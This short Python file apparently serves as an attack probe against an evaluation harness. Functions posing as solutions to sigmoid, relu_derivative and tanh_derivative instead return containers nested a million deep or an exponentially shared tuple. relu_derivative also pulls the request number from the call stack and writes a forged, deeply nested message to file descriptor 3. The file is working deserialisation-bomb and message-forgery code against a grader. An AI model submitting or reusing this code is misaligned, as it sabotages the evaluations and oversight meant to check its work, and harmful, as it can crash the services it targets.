"""tries: return containers nested a million times, in honest and in forged messages
class: deserialisation
"""
# %% solution: sigmoid
import os, struct, sys

def number():
    """Of the request that is being answered, from the frames below."""
    frame = sys._getframe()
    while "number" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["number"]

def sigmoid(x):
    value = []
    for _ in range(1_000_000):
        value = [value]
    return value

# %% solution: relu_derivative
def relu_derivative(x):
    head = b"\x94\x01" + b"\x91" * 3_000_000 + b"\x90\x80\x90"
    os.write(3, struct.pack(">IIi", len(head), 0, -number()) + head)

# %% solution: tanh_derivative
def tanh_derivative(x):
    value = ()
    for _ in range(60):
        value = (value, value)
    return value
